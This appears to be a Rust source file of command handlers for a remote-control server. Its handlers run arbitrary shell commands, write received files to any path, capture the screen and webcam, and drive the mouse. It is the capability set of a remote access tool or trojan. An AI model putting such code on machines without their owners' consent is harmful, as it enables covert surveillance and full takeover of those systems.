//! Built-in command handlers
//!
//! The canonical command set. Handlers return `Action::Reply` payloads or
//! errors; the dispatcher converts errors into `"Error: <kind>: <detail>"`
//! payloads at the boundary, so nothing here can take the connection loop
//! down. Argument-validation misses are ordinary reply payloads, matching
//! the wire contract literal for literal.

use std::fs;

use crate::capability::MouseButton;
use crate::dispatch::{Action, HandlerContext};
use crate::error::Result;
use crate::protocol::CommandRequest;

/// `helloworld` — liveness check; arguments are ignored.
pub fn hello_world(_ctx: &HandlerContext, _req: &CommandRequest) -> Result<Action> {
    Ok(Action::Reply(b"Hello World".to_vec()))
}

/// `echo <args...>` — surfaces the arguments on the operator console.
pub fn echo(_ctx: &HandlerContext, req: &CommandRequest) -> Result<Action> {
    if req.args().is_empty() {
        return Ok(Action::Reply(b"Not enough arguments.".to_vec()));
    }
    tracing::info!("echo: {}", req.args().join(" "));
    Ok(Action::Reply(b"Successfully.".to_vec()))
}

/// `savefile <path>` — writes the attachment verbatim to `path`.
pub fn save_file(_ctx: &HandlerContext, req: &CommandRequest) -> Result<Action> {
    let (Some(path), Some(attachment)) = (req.args().first(), req.attachment()) else {
        return Ok(Action::Reply(
            b"Input or destination file not specified.".to_vec(),
        ));
    };
    fs::write(path, attachment)?;
    Ok(Action::Reply(b"Successfully.".to_vec()))
}

/// `exec <args...>` — runs the arguments as one shell command line and
/// returns its combined stdout+stderr.
pub fn exec(ctx: &HandlerContext, req: &CommandRequest) -> Result<Action> {
    let command_line = req.args().join(" ");
    let output = ctx.caps.shell.run(&command_line, ctx.exec_timeout)?;
    Ok(Action::Reply(output))
}

/// `screen` — PNG capture of the primary screen.
pub fn screen(ctx: &HandlerContext, _req: &CommandRequest) -> Result<Action> {
    let png = ctx.caps.screen.capture_png()?;
    Ok(Action::Reply(png))
}

/// `webcamphoto` — JPEG frame from the first webcam.
pub fn webcam_photo(ctx: &HandlerContext, _req: &CommandRequest) -> Result<Action> {
    match ctx.caps.camera.capture_jpeg()? {
        Some(jpeg) => Ok(Action::Reply(jpeg)),
        None => Ok(Action::Reply(b"Error while reading from webcam.".to_vec())),
    }
}

/// `mouse <move|moverel|click|dclick> [...]` — cursor control.
pub fn mouse(ctx: &HandlerContext, req: &CommandRequest) -> Result<Action> {
    let args = req.args();
    let Some(subcommand) = args.first() else {
        return Ok(Action::Reply(b"Unknown mouse subcommand.".to_vec()));
    };

    match subcommand.to_ascii_lowercase().as_str() {
        "move" => mouse_move(ctx, &args[1..], false),
        "moverel" => mouse_move(ctx, &args[1..], true),
        "click" => mouse_click(ctx, &args[1..], 1),
        "dclick" => mouse_click(ctx, &args[1..], 2),
        _ => Ok(Action::Reply(b"Unknown mouse subcommand.".to_vec())),
    }
}

fn mouse_move(ctx: &HandlerContext, args: &[String], relative: bool) -> Result<Action> {
    let coords = match (args.first(), args.get(1)) {
        (Some(x), Some(y)) => x.parse::<i32>().ok().zip(y.parse::<i32>().ok()),
        _ => None,
    };
    let Some((x, y)) = coords else {
        return Ok(Action::Reply(
            b"Not enough arguments/invalid arguments.".to_vec(),
        ));
    };
    ctx.caps.cursor.move_cursor(x, y, relative)?;
    Ok(Action::Reply(b"Successfully.".to_vec()))
}

fn mouse_click(ctx: &HandlerContext, args: &[String], count: u32) -> Result<Action> {
    let button = match args.first() {
        None => MouseButton::Left,
        Some(name) => match name.parse::<MouseButton>() {
            Ok(button) => button,
            Err(_) => {
                return Ok(Action::Reply(
                    format!("Unknown mouse button '{name}'.").into_bytes(),
                ));
            }
        },
    };
    ctx.caps.cursor.click(button, count)?;
    Ok(Action::Reply(b"Successfully.".to_vec()))
}

/// `exit` — terminal: the server stops without responding.
pub fn exit(_ctx: &HandlerContext, _req: &CommandRequest) -> Result<Action> {
    Ok(Action::Shutdown)
}
